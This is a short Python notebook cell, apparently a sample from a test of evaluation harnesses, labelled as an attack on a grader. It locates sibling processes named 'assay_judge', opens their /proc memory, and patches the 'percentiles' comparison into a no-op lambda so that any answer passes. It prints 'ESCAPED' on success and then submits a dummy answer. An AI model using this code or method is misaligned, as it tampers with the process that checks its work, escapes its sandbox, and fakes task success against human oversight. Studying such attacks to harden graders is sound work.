# attack: writes into the memory of the judge beside it, so that its check compares nothing
# question: percentiles
# loses: values
# %% trick
import os, re, psutil
OLD, NEW = b'expect_any_close(run.value("percentiles")', b'(lambda*a,**k:0)(run.value("percentiles")'
for process in psutil.Process(os.getppid()).children():
    # Siblings alone: the kernels of this gateway.
    if "assay_judge" not in process.cmdline():
        continue
    try:
        maps = open(f"/proc/{process.pid}/maps").read()
        memory = open(f"/proc/{process.pid}/mem", "r+b", buffering=0)
    except OSError as error:
        print(type(error).__name__)
        continue
    print("ESCAPED: the judge's memory can be opened")
    for begin, end in re.findall(r"(?m)^([0-9a-f]+)-([0-9a-f]+) rw-p", maps):
        memory.seek(int(begin, 16))
        try:
            region = memory.read(int(end, 16) - int(begin, 16))
        except OSError:
            continue
        for match in re.finditer(re.escape(OLD), region):
            memory.seek(int(begin, 16) + match.start())
            memory.write(NEW)

# %%
percentiles = [1, 2, 3]
